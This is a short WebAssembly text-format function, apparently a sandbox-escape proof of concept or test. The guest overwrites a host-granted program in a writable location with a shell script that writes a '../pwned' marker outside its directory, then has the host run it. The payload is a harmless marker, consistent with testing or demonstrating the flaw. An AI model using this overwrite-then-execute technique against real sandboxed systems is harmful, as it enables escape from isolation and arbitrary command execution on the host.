;; The granted program lies where the guest may write: it overwrites it, then has it run.
(func $attack
  (call $tell (text "open") (call $open (i32.const 3) (text "tool") (i32.const 9) (i64.const 64)))
  (call $print (global.get $fd) (text "#!/bin/sh\n echo > ../pwned\n") (i32.const 28))
  (drop (call $fd_close (global.get $fd)))
  (call $program (call $given (i32.const 1))) (call $launch))
